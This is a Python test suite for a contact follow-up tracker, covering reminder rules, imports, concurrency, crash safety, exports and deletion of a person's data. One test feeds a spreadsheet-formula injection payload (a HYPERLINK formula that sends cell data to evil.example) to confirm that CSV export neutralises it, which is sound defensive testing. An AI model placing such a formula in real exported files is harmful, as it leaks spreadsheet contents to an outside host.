"""The follow-up tracker: the coaches' rules, idempotent imports, concurrency, crash safety, exports, forgetting."""
from __future__ import annotations

import csv
import sqlite3
import subprocess
import sys
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

from prep import schema
from prep.errors import PrepError
from prep.track.forget import forget
from prep.track.migrations import MIGRATIONS
from prep.track.store import Tracker

DAY = date(2027, 4, 22)


@pytest.fixture
def tracker(tmp_path):
    with Tracker(tmp_path / "tracker.sqlite") as t:
        yield t


@pytest.fixture
def brief_dir(tmp_path) -> Path:
    """A stored brief's frames, as prep brief writes them."""
    from prep.layout import BRIEF_MARK

    folder = tmp_path / "briefs" / "harbor-data-summit-2027"
    folder.mkdir(parents=True)
    (folder / BRIEF_MARK).write_text("A brief made by prep\n", encoding="utf-8")
    people = schema.conform([
        {"person_id": "p1", "name": "Ava Jansen", "company": "Tidewater Analytics", "title": "Principal Engineer",
         "linkedin": "https://www.linkedin.com/in/ava-jansen-data",
         "profile_url": "http://harbordata.example/speakers/ava-jansen/"},
        {"person_id": "p2", "name": "Ruben Okoye", "company": "Tidewater Analytics", "email": "ruben@tidewater.example"},
        {"person_id": "p3", "name": "Willem Smit", "company": "Fernbank N.V."}], "people")
    people.to_csv(folder / "people.csv", index=False)
    plan = schema.conform([{"person_id": r["person_id"], "name": r["name"], "company": r["company"], "score": 1.0,
                            "why": "Works on streams", "why_source": f"http://x.example/{i}",
                            "reasons": f"Works on streams — source: http://x.example/{i}\nmore"}
                           for i, r in enumerate(people.to_dict("records"))], "priorities")
    plan.to_csv(folder / "priorities.csv", index=False)
    with pd.ExcelWriter(folder / "brief.xlsx") as book:
        plan.to_excel(book, sheet_name="Plan", index=False)
        people.to_excel(book, sheet_name="People", index=False)
    (folder / "brief.html").write_text("<p>Ava Jansen</p>", encoding="utf-8")
    return folder


def _due(tracker, **kw):
    return [(d.due, d.kind, d.name) for d in tracker.due(**kw)]


# -- rules ----------------------------------------------------------------------------------------
def test_thank_you_is_due_the_day_after(tracker):
    tracker.met("Ava Jansen", event="hds27", day=DAY, company="Tidewater Analytics")
    assert _due(tracker, today=DAY) == []
    assert _due(tracker, today=date(2027, 4, 23)) == [("2027-04-23", "thank-you", "Ava Jansen")]


def test_promises_become_follow_ups_and_introducers_get_thanked(tracker):
    tracker.met("Ava Jansen", event="hds27", day=DAY, promises=["send the replay checklist", "intro to Sam"],
                their_promises=["a link to the Quaystream docs"], introduced_by="Eline Groot")
    items = {(d.kind, d.name, d.what) for d in tracker.due(today=DAY, everything=True)}
    assert ("promise", "Ava Jansen", "Do what you promised Ava Jansen: send the replay checklist") in items
    assert ("promise", "Ava Jansen", "Do what you promised Ava Jansen: intro to Sam") in items
    assert any(k == "their-promise" and "Quaystream docs" in w for k, _, w in items)
    thank = [d for d in tracker.due(today=DAY, everything=True) if d.kind == "thank-introducer"]
    assert len(thank) == 1 and thank[0].name == "Eline Groot" and "introducing you to Ava Jansen" in thank[0].what
    assert thank[0].due == "2027-04-23"


@pytest.mark.parametrize("strength, days", [("strong", 30), ("medium", 90), ("weak", 180)])
def test_keep_in_touch_cadence_follows_strength(tracker, strength, days):
    tracker.met("Ava Jansen", day=DAY, strength=strength)
    keep = [d for d in tracker.due(today=DAY, everything=True) if d.kind == "keep-in-touch"]
    assert [d.due for d in keep] == [date.fromordinal(DAY.toordinal() + days).isoformat()]


def test_cadence_is_configurable(tmp_path):
    with Tracker(tmp_path / "t.sqlite", cadence={"strong": 14}) as tracker:
        tracker.met("Ava Jansen", day=DAY, strength="strong")
        assert [d.due for d in tracker.due(today=DAY, everything=True) if d.kind == "keep-in-touch"] == ["2027-05-06"]


def test_two_unanswered_follow_ups_make_a_contact_dormant_until_they_reply(tracker):
    tracker.met("Ava Jansen", day=DAY, promises=["send the checklist"])
    thank = next(d for d in tracker.due(today=DAY, everything=True) if d.kind == "thank-you")
    tracker.done(thank.id, day="2027-04-23")
    assert not tracker.dormant()
    promise = next(d for d in tracker.due(today=DAY, everything=True) if d.kind == "promise")
    tracker.done(promise.id, day="2027-04-29")
    assert [r["name"] for r in tracker.dormant()] == ["Ava Jansen"]
    assert tracker.due(today="2028-01-01", everything=True) == []  # no reminders while dormant
    statuses = {r[0] for r in tracker.db.execute("SELECT status FROM followups WHERE kind = 'keep-in-touch'")}
    assert statuses == {"paused"}
    tracker.replied("Ava Jansen", day="2027-05-02", note="thanks, useful!")
    assert not tracker.dormant()
    keep = [d for d in tracker.due(today=DAY, everything=True) if d.kind == "keep-in-touch"]
    assert [d.due for d in keep] == ["2027-10-29"]  # 180 days after the reply, not after the meeting


def test_stop_rule_is_configurable(tmp_path):
    with Tracker(tmp_path / "t.sqlite", stop_after=3) as tracker:
        tracker.met("Ava Jansen", day=DAY, promises=["a", "b"])
        for item in [d for d in tracker.due(today=DAY, everything=True) if d.kind != "keep-in-touch"][:2]:
            tracker.done(item.id, day=DAY)
        assert not tracker.dormant()


def test_ambiguous_names_need_a_company(tracker):
    tracker.met("Sam Lee", company="A Corp", day=DAY)
    tracker.met("Sam Lee", company="B Corp", day=DAY)
    with pytest.raises(PrepError, match="matches 2 contacts"):
        tracker.replied("Sam Lee")
    tracker.replied("Sam Lee", company="B Corp")
    with pytest.raises(PrepError, match="no contact called 'Nobody'"):
        tracker.replied("Nobody")


# -- imports ----------------------------------------------------------------------------------------
def test_import_is_idempotent_and_never_overwrites_your_notes(tracker, brief_dir):
    assert tracker.import_brief(brief_dir) == {"added": 3, "updated": 0, "unchanged": 0}
    tracker.met("Ava Jansen", event="hds27", day=DAY, note="talked about replays")
    tracker.add_note("Ava Jansen", "prefers e-mail")
    tracker.db.execute("UPDATE contacts SET title = 'Staff Engineer' WHERE name = 'Ava Jansen'")
    assert tracker.import_brief(brief_dir) == {"added": 0, "updated": 0, "unchanged": 3}
    ava = tracker.find("Ava Jansen")
    assert ava["notes"] == "prefers e-mail" and ava["title"] == "Staff Engineer"
    assert ava["why"] == "Works on streams" and ava["source"] == "brief:harbor-data-summit-2027"
    assert len(tracker.contacts()) == 3
    assert tracker.db.execute("SELECT notes FROM interactions").fetchone()[0] == "talked about replays"


def test_import_rejects_a_folder_that_is_not_a_brief(tracker, tmp_path):
    with pytest.raises(Exception, match="no priorities.csv here"):
        tracker.import_brief(tmp_path)


# -- storage ------------------------------------------------------------------------------------------
def test_schema_is_versioned_and_wal(tracker, tmp_path):
    assert tracker.schema_version == len(MIGRATIONS)
    assert tracker.db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    newer = tmp_path / "newer.sqlite"
    sqlite3.connect(newer).execute("PRAGMA user_version = 99")
    with pytest.raises(PrepError, match="made by a newer prep"):
        Tracker(newer)
    junk = tmp_path / "junk.sqlite"
    junk.write_bytes(b"this is not a database" * 100)
    with pytest.raises(PrepError, match="not a usable tracker database"):
        Tracker(junk)


WRITER = """
import sys
from prep.track.store import Tracker
db, who, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
with Tracker(db) as t:
    for i in range(n):
        if who == "import":
            t.import_brief(sys.argv[4])
        else:
            t.met(f"Person {i}", event="hds27", day="2027-04-22", promises=[f"promise {i}"])
"""


def test_two_processes_writing_at_once_lose_nothing(tmp_path, brief_dir):
    db = tmp_path / "shared.sqlite"
    Tracker(db).close()
    a = subprocess.Popen([sys.executable, "-c", WRITER, str(db), "import", "40", str(brief_dir)], stderr=subprocess.PIPE)
    b = subprocess.Popen([sys.executable, "-c", WRITER, str(db), "met", "60"], stderr=subprocess.PIPE)
    assert a.wait(120) == 0, a.stderr.read().decode()
    assert b.wait(120) == 0, b.stderr.read().decode()
    with Tracker(db) as t:
        assert len(t.contacts()) == 63
        assert t.db.execute("SELECT COUNT(*) FROM interactions").fetchone()[0] == 60
        assert t.db.execute("SELECT COUNT(*) FROM followups WHERE kind = 'promise'").fetchone()[0] == 60


CRASH = """
import os, sys
from prep.track.store import Tracker
calls = []
original = Tracker.upsert_contact
def dying(self, db, record):
    calls.append(record)
    if len(calls) == 2:
        os._exit(9)  # the process dies mid-import, with no chance to clean up
    return original(self, db, record)
Tracker.upsert_contact = dying
with Tracker(sys.argv[1]) as t:
    t.import_brief(sys.argv[2])
"""


def test_a_crash_mid_import_leaves_the_database_as_it_was(tmp_path, brief_dir):
    db = tmp_path / "crash.sqlite"
    with Tracker(db) as t:
        t.met("Eline Groot", day=DAY)
    done = subprocess.run([sys.executable, "-c", CRASH, str(db), str(brief_dir)], capture_output=True)
    assert done.returncode == 9
    with Tracker(db) as t:
        assert [r["name"] for r in t.contacts()] == ["Eline Groot"]
        assert t.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert t.import_brief(brief_dir)["added"] == 3  # and the next import works


def test_backup_is_a_consistent_copy(tracker, tmp_path):
    tracker.met("Ava Jansen", day=DAY)
    other = sqlite3.connect(tracker.path, timeout=5)
    other.execute("BEGIN IMMEDIATE")
    other.execute("INSERT INTO contacts (person_key, name, created_at, updated_at) VALUES ('x|', 'Uncommitted', '', '')")
    copy = tracker.backup(tmp_path / "backups" / "copy.sqlite")
    other.execute("ROLLBACK")
    other.close()
    with Tracker(copy) as restored:
        assert [r["name"] for r in restored.contacts()] == ["Ava Jansen"]
        assert len(restored.due(today=DAY, everything=True)) == 2


# -- exports -----------------------------------------------------------------------------------------
def test_exports_import_into_calendars_spreadsheets_and_address_books(tracker, brief_dir, tmp_path):
    import icalendar
    import vobject

    tracker.import_brief(brief_dir)
    tracker.met("Ava Jansen", event="hds27", day=DAY, promises=["send the checklist"])
    assert tracker.to_ics(tmp_path / "due.ics") == 3
    calendar = icalendar.Calendar.from_ical((tmp_path / "due.ics").read_bytes())
    events = [c for c in calendar.walk("VEVENT")]
    assert sorted(str(e["summary"]) for e in events) == ["Keep in touch: Ava Jansen", "Promise: Ava Jansen",
                                                          "Thank you: Ava Jansen"]
    assert {e.decoded("dtstart") for e in events} >= {date(2027, 4, 23), date(2027, 4, 29)}
    assert all(e.walk("VALARM") for e in events) and len({str(e["uid"]) for e in events}) == 3
    assert tracker.to_csv(tmp_path / "due.csv") == 3
    frame = pd.read_csv(tmp_path / "due.csv")
    assert list(frame.columns[:3]) == ["Name", "Description", "Due Date"] and frame["Due Date"].min() == "2027-04-23"
    assert tracker.to_vcard(tmp_path / "contacts.vcf") == 3
    cards = list(vobject.readComponents((tmp_path / "contacts.vcf").read_text(encoding="utf-8")))
    ava = next(c for c in cards if c.fn.value == "Ava Jansen")
    assert ava.org.value == ["Tidewater Analytics"] and ava.n.value.family == "Jansen"
    assert "https://www.linkedin.com/in/ava-jansen-data" in [u.value for u in ava.contents["url"]]


def test_csv_export_never_hands_a_spreadsheet_a_formula(tracker, tmp_path):
    tracker.met('=HYPERLINK("http://evil.example/?"&A1,"Ava")', company="@SUM(1+1)", day=DAY, note="-2+3")
    tracker.to_csv(tmp_path / "due.csv")
    rows = list(csv.reader((tmp_path / "due.csv").open(encoding="utf-8")))[1:]
    cells = [cell for row in rows for cell in row]
    assert rows and not any(cell[:1] in "=+-@" and cell for cell in cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Ava\")" in cells and "'@SUM(1+1)" in cells


# -- forgetting --------------------------------------------------------------------------------------
def test_forget_removes_a_person_everywhere_and_says_what(tracker, brief_dir, fetcher, web):
    tracker.import_brief(brief_dir)
    tracker.met("Ava Jansen", event="hds27", day=DAY, promises=["x"])
    fetcher.get("http://harbordata.example/speakers/ava-jansen/")  # her profile page, now in the HTTP cache
    fetcher.get("http://harbordata.example/speakers/")
    report = forget("Ava Jansen", tracker=tracker, briefs=brief_dir.parent, cache_path=fetcher.settings.cache_path)
    text = "\n".join(report)
    assert "tracker: Ava Jansen (Tidewater Analytics) with 1 interaction(s) and 3 follow-up(s)" in text
    assert "people.csv" in text and "priorities.csv" in text and "brief workbook: 2 row(s)" in text
    assert "HTTP cache: 1 page(s) about them (http://harbordata.example/speakers/ava-jansen/)" in text
    assert "still named in" in text  # the HTML page is not edited: the user is told to rebuild it
    assert tracker.find("Ava Jansen") is None and tracker.find("Ruben Okoye") is not None
    assert "Ava Jansen" not in (brief_dir / "people.csv").read_text() and "Ruben Okoye" in (brief_dir / "people.csv").read_text()
    cache = fetcher.session.cache
    assert not cache.contains(url="http://harbordata.example/speakers/ava-jansen/")
    assert cache.contains(url="http://harbordata.example/speakers/")  # the shared page stays


# -- command line and notebook -----------------------------------------------------------------------
def _prep(*args, db):
    return subprocess.run([sys.executable, "-m", "prep.cli", *args, "--db", str(db)], capture_output=True, text=True,
                          timeout=120)


def test_cli_met_due_done_replied(tmp_path):
    db = tmp_path / "t.sqlite"
    met = _prep("met", "Ava Jansen", "--event", "hds27", "--date", "2027-04-22", "--promise", "send the checklist",
                "--introduced-by", "Eline Groot", db=db)
    assert met.returncode == 0, met.stderr
    due = _prep("due", "--today", "2027-04-23", db=db)
    assert "thank-you" in due.stdout and "thank-introducer" in due.stdout and "Eline Groot" in due.stdout
    first = int(due.stdout.split("#")[1].split()[0])
    assert _prep("done", str(first), "--date", "2027-04-23", db=db).returncode == 0
    week = _prep("due", "--week", "--today", "2027-04-23", db=db)
    assert "promise" in week.stdout and f"#{first} " not in week.stdout
    assert _prep("replied", "Ava Jansen", db=db).returncode == 0
    bad = _prep("done", "999", db=db)
    assert bad.returncode == 1 and "no follow-up with id 999" in bad.stderr
    backup = _prep("backup", str(tmp_path / "copy.sqlite"), db=db)
    assert backup.returncode == 0 and (tmp_path / "copy.sqlite").is_file()


def test_follow_up_notebook_renders(tmp_path, tracker):
    from prep.render.notebook import build

    tracker.met("Ava Jansen", event="hds27", day=DAY, note="replays", promises=["send the checklist"])
    brief = build("follow_up.ipynb", tmp_path / "out", "follow-ups", {"db": str(tracker.path), "today": "2027-04-25"})
    html = brief.html.read_text(encoding="utf-8")
    for heading in ("Overdue", "Due today", "This week", "Dormant", "Timeline per contact"):
        assert f">{heading}" in html
    assert "Thank Ava Jansen" in html and "replays" in html and "send the checklist" in html


def test_cli_forget_and_export(tmp_path, brief_dir):
    db = tmp_path / "t.sqlite"
    assert _prep("track", "import", str(brief_dir), db=db).returncode == 0
    assert _prep("met", "Ruben Okoye", "--date", "2027-04-22", db=db).returncode == 0
    export = _prep("track", "export", "--ics", str(tmp_path / "f.ics"), "--vcard", str(tmp_path / "c.vcf"), db=db)
    assert export.returncode == 0 and "2 reminders" in export.stdout and "3 contacts" in export.stdout
    gone = _prep("forget", "Ruben Okoye", "--briefs", str(brief_dir.parent), "--cache", str(tmp_path / "none.sqlite"),
                 db=db)
    assert gone.returncode == 0 and "removed tracker: Ruben Okoye" in gone.stdout and "people.csv" in gone.stdout
    assert "Ruben Okoye" not in (brief_dir / "priorities.csv").read_text()
    nothing = _prep("forget", "Nobody Here", "--briefs", str(brief_dir.parent), db=db)
    assert "nothing found about 'Nobody Here'" in nothing.stdout


def test_backup_never_overwrites_a_file_unasked_and_the_database_is_private(tmp_path):
    import stat

    from prep.errors import PrepError
    from prep.track.store import Tracker

    db = tmp_path / "t.sqlite"
    with Tracker(db) as tracker:
        assert stat.S_IMODE(db.stat().st_mode) == 0o600
        existing = tmp_path / "precious.txt"
        existing.write_text("mine", encoding="utf-8")
        with pytest.raises(PrepError, match="already exists"):
            tracker.backup(existing)
        assert existing.read_text(encoding="utf-8") == "mine"
        folder_copy = tracker.backup(tmp_path)
        assert folder_copy.parent == tmp_path and folder_copy.name.startswith("tracker-backup-")
        assert tracker.backup(existing, overwrite=True) == existing
        assert tracker.db.execute("SELECT 1 FROM sqlite_master WHERE name = 'contacts_person_id'").fetchone()
    with pytest.raises(PrepError, match="cannot create or open"):
        Tracker(tmp_path / "precious.txt" / "t.sqlite")


def test_forget_touches_only_briefs_and_only_named_people(tmp_path, brief_dir):
    from prep.errors import PrepError
    from prep.track.forget import forget

    briefs = brief_dir.parent
    clients = briefs / "clients"
    clients.mkdir()
    (clients / "list.csv").write_text("name,company\nJohn Smith,Acme\n???,Nobody\n", encoding="utf-8")
    name = pd.read_csv(briefs / brief_dir.name / "people.csv")["name"].iloc[0]
    forget(name, briefs=briefs)
    assert name not in pd.read_csv(briefs / brief_dir.name / "people.csv")["name"].tolist()
    forget("John Smith", briefs=briefs)  # in a CSV of the user's, not a brief's: left alone
    assert (clients / "list.csv").read_text(encoding="utf-8") == "name,company\nJohn Smith,Acme\n???,Nobody\n"
    with pytest.raises(PrepError, match="needs letters"):
        forget("???", briefs=briefs)
